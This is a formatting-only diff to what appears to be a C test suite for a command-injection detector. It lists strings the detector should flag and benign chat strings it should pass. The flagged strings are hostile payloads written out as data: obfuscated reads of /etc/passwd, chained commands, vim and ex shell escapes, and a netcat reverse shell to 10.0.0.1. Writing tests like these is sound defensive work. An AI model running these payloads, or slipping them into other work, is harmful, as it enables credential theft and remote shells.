@@ -133,7 +133,8 @@ WSG_TEST(cmdi_positives)
 		"& for /f \\\"delims=\\\" %i in ('cmd /c \\\"set /a (6+2)\\\"') do @set /p = x",
 		"cat /[?]tc/pa[?]swd", "cat /etc/[p//]asswd", "cat+/et*/*wd", "/?\?\?/?s",
 		"x;/bin/ca?+/et*/passwd", "x.com;c$*at+/et$*c/pas$*swd",
-		"\\necho injectx\\nexit", "\\n/usr/bin/id\\n", ";which gcc", "which ncat", "which python3",
+		"\\necho injectx\\nexit", "\\n/usr/bin/id\\n", ";which gcc", "which ncat",
+		"which python3",
 		"time; ansible all -m ping", "cd /;cd etc;column passwd",
 		";vim dddd  silent\\\\ \\!whoami  wq", ";ex -c:\\!pwd",
 		";\\n.shell nc 10.0.0.1 66 -e sh", "1;.\\\"shell whoami", "{cat,/etc/passwd}",
@@ -187,7 +188,8 @@ WSG_TEST(cmdi_chat_negatives)
 		"cat /etc/hosts shows it", "i'd rather && go", "bash -c is how you run a string",
 		"nc -l 1234 to test the port", "net user on windows lists accounts",
 		"/usr/bin/python3 is the default", "mv file{,.bak}", "cp /etc/fstab{,.orig}",
-		"head /etc/passwd shows users", "time; money is tight", ";-) ok", "a hero; more than",
+		"head /etc/passwd shows users", "time; money is tight", ";-) ok",
+		"a hero; more than",
 		"i'm a chef", NULL,
 	};
 
